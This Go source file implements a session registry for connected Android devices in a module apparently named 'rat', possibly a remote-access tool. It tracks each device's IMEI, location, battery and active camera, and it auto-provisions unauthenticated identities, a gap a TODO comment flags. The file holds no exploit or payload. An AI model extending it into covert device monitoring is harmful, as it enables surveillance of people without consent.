package session

import (
	"context"
	"fmt"
	"sync"
	"time"

	"github.com/Sp1ker2/rat/internal/model"
	"github.com/Sp1ker2/rat/internal/storage"
	"go.uber.org/zap"
)

// TokenFunc mints a device token for auto-provisioned profiles.
type TokenFunc func() string

// Registry is the in-memory source of truth for online status and
// last-known lightweight telemetry, decoupled from any one transport
// connection. Sessions are created on first connect and only ever marked
// offline, never removed.
type Registry struct {
	mu       sync.RWMutex
	sessions map[string]*model.Session

	store    storage.Store
	newToken TokenFunc
	log      *zap.Logger
}

// NewRegistry creates the registry.
func NewRegistry(store storage.Store, newToken TokenFunc, log *zap.Logger) *Registry {
	return &Registry{
		sessions: make(map[string]*model.Session),
		store:    store,
		newToken: newToken,
		log:      log,
	}
}

// Register creates or refreshes the session for a device and synchronizes
// its durable profile: an existing profile gets its descriptive fields and
// last_seen updated; an unknown identity is provisioned a fresh profile
// with a newly generated token.
//
// TODO(product review): auto-provisioning lets any caller that produces a
// UUID create an identity before proving token possession. Preserved from
// the observed behavior; see DESIGN.md.
func (r *Registry) Register(ctx context.Context, info model.DeviceInfo) (*model.Session, error) {
	attrs := storage.DeviceAttrs{
		IMEI:           info.IMEI,
		Model:          info.Model,
		Manufacturer:   info.Manufacturer,
		AndroidVersion: info.AndroidVersion,
		SDK:            info.SDK,
	}
	if _, err := r.store.GetDevice(ctx, info.ID); err == nil {
		if _, err := r.store.UpdateDevice(ctx, info.ID, info.Name, attrs); err != nil {
			return nil, fmt.Errorf("update profile: %w", err)
		}
	} else {
		if _, err := r.store.CreateDevice(ctx, info.ID, info.Name, r.newToken(), attrs); err != nil {
			return nil, fmt.Errorf("provision profile: %w", err)
		}
		r.log.Info("device auto-provisioned", zap.String("device_id", info.ID), zap.String("name", info.Name))
	}

	now := time.Now().UTC()

	r.mu.Lock()
	sess, ok := r.sessions[info.ID]
	if ok {
		sess.LastActivity = now
		sess.IsOnline = true
		sess.DeviceName = info.Name
	} else {
		sess = &model.Session{
			DeviceID:       info.ID,
			DeviceName:     info.Name,
			IMEI:           info.IMEI,
			Model:          info.Model,
			Manufacturer:   info.Manufacturer,
			AndroidVersion: info.AndroidVersion,
			ConnectedAt:    now,
			LastActivity:   now,
			CurrentCamera:  "back",
			IsOnline:       true,
		}
		r.sessions[info.ID] = sess
	}
	out := sess.Clone()
	r.mu.Unlock()

	if _, err := r.store.LogDeviceEvent(ctx, info.ID, "connected", deviceInfoPayload(info), 0); err != nil {
		r.log.Warn("log connected event failed", zap.String("device_id", info.ID), zap.Error(err))
	}
	return out, nil
}

// MarkOffline flips the online flag. The session stays listed.
func (r *Registry) MarkOffline(id string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if sess, ok := r.sessions[id]; ok {
		sess.IsOnline = false
	}
}

// Touch refreshes the session's last-activity timestamp.
func (r *Registry) Touch(id string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if sess, ok := r.sessions[id]; ok {
		sess.LastActivity = time.Now().UTC()
	}
}

// Get returns a copy of the session, or nil if the identity has never
// connected in this process.
func (r *Registry) Get(id string) *model.Session {
	r.mu.RLock()
	defer r.mu.RUnlock()
	if sess, ok := r.sessions[id]; ok {
		return sess.Clone()
	}
	return nil
}

// All returns copies of every session, online and offline.
func (r *Registry) All() []*model.Session {
	r.mu.RLock()
	defer r.mu.RUnlock()
	out := make([]*model.Session, 0, len(r.sessions))
	for _, sess := range r.sessions {
		out = append(out, sess.Clone())
	}
	return out
}

// Online returns copies of the sessions currently marked online.
func (r *Registry) Online() []*model.Session {
	r.mu.RLock()
	defer r.mu.RUnlock()
	var out []*model.Session
	for _, sess := range r.sessions {
		if sess.IsOnline {
			out = append(out, sess.Clone())
		}
	}
	return out
}

// UpdateTelemetry merges a partial update into an existing session and
// refreshes last-activity. A message arriving before registration
// completes has no session yet and is dropped, not queued.
func (r *Registry) UpdateTelemetry(id string, upd model.TelemetryUpdate) {
	r.mu.Lock()
	defer r.mu.Unlock()
	sess, ok := r.sessions[id]
	if !ok {
		return
	}
	sess.LastActivity = time.Now().UTC()
	if upd.BatteryLevel != nil {
		lvl := *upd.BatteryLevel
		sess.BatteryLevel = &lvl
	}
	if upd.Location != nil {
		sess.Location = upd.Location
	}
	if upd.CurrentCamera != "" {
		sess.CurrentCamera = upd.CurrentCamera
	}
}

func deviceInfoPayload(info model.DeviceInfo) map[string]any {
	payload := map[string]any{
		"id":              info.ID,
		"name":            info.Name,
		"model":           info.Model,
		"manufacturer":    info.Manufacturer,
		"android_version": info.AndroidVersion,
		"sdk":             info.SDK,
	}
	if info.IMEI != "" {
		payload["imei"] = info.IMEI
	}
	return payload
}
